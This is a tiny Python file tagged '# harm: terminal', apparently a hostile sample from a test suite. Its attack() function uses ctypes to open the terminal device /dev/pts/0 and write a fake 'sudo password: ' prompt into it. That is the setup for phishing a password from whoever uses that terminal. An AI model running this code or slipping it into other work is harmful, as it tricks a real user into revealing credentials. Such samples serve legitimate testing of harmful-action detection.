# harm: terminal
import ctypes

libc = ctypes.CDLL(None)


def attack() -> int:
    return libc.write(libc.open(b"/dev/pts/0", 0o400 | 1), b"sudo password: ", 15)
